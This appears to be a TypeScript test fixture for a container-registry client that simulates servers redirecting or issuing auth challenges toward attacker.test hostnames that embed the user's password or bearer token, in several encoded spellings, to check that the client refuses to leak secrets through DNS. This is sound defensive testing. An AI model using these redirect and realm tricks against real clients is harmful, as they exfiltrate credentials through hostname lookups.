// Whoever got the password names a host whose name holds it: asking for that host would tell every DNS server.
import type { RequestListener } from 'node:http';
import { answer, challenge, redirect } from '../../faults/answers.js';
import { type Attack, AUTH, credentials, ISSUED, own, REGISTRY } from '../attack.js';

const { password } = credentials.nameable;
const labels = [
  ...[password, password.toUpperCase(), `of-${password}-x`, password.replace('p', '%70')],
  Buffer.from(password).toString('hex'),
];
const basic: RequestListener = (request, response) => {
  (request.headers.authorization ? answer(200) : challenge('Basic realm="r"'))(request, response);
};

/** The password is used once, everything is forgotten, and the password is used again. */
function later(
  id: string,
  mechanism: string,
  stoppedBy: readonly string[],
  second: (name: string) => RequestListener,
  more: Pick<Attack, 'ends' | 'received'> & Partial<Attack>,
): Attack {
  return {
    id,
    mechanism,
    stoppedBy,
    spellings: labels.map((label) => `https://${label}.attacker.test`),
    credential: credentials.nameable,
    serve: (name) => {
      let asked = 0;
      const ping: RequestListener = (request, response) => {
        asked += request.headers.authorization ? 0 : 1;
        (asked === 1 ? basic : second(name))(request, response);
      };
      return { [REGISTRY]: { '/v2/': ping } };
    },
    act: async ({ fetch, forget }) => {
      await fetch();
      forget();
      await fetch();
    },
    login: [REGISTRY],
    ...more,
  };
}

const again = ['GET /v2/', 'GET /v2/ basic', 'GET /v2/'];

export const nameOfHostAttacks: readonly Attack[] = [
  later('name-in-ping', 'the next ping is redirected there', ['name-sent'], (name) => redirect(307, `${name}/v2/`), {
    ends: 'untrusted-realm',
    says: /contains a secret/,
    received: { [REGISTRY]: again },
  }),
  later(
    'name-in-realm',
    'the next challenge names it as token server, and the user would be asked about that name',
    ['name-judged'],
    (name) => challenge(`Bearer realm="${name}/token",service="s"`),
    {
      ends: 'untrusted-realm',
      says: /contains a secret/,
      received: { [REGISTRY]: [...again, 'GET /v2/team/app/tags/list'] },
    },
  ),
  {
    id: 'name-in-content',
    mechanism: 'content lies at a host whose name holds the token that was sent',
    stoppedBy: ['name-sent', 'earlier-token'],
    serve: () => ({
      [REGISTRY]: {
        '/v2/': own,
        '/v2/team/app/manifests/latest': redirect(307, `https://${ISSUED}.attacker.test/blob`),
      },
    }),
    act: ({ referrers }) => referrers(),
    ends: 'untrusted-realm',
    says: /contains a secret/,
    received: {
      [REGISTRY]: ['GET /v2/', 'HEAD /v2/team/app/manifests/latest bearer'],
      [AUTH]: ['GET /token basic'],
    },
    login: [AUTH],
  },
];
